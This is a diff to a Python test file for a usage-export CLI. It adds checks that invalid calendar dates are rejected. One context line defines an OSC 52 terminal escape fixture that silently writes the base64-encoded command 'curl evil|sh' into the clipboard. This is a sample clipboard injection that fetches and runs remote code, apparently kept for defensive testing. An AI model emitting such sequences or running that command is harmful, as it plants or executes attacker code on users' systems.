@@ -108,6 +108,11 @@ def test_cli_exports_the_ledger(tmp_path: pathlib.Path) -> None:
     assert got.exit_code == 0 and json.loads(target.read_text())["totals"]["requests"] == 1
     bad = runner.invoke(usage_export, ["--db", db, "--since", "tomorrow"])
     assert bad.exit_code != 0 and "YYYY-MM-DD" in bad.output
+    # the right shape but no such day: was accepted and selected nothing
+    for day in ("2024-13-01", "2025-02-29"):
+        bad = runner.invoke(usage_export, ["--db", db, "--until", day])
+        assert bad.exit_code != 0 and f"not '{day}'" in bad.output
+    assert runner.invoke(usage_export, ["--db", db, "--since", "2024-02-29"]).exit_code == 0
 
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\"  # writes "curl evil|sh" into the clipboard
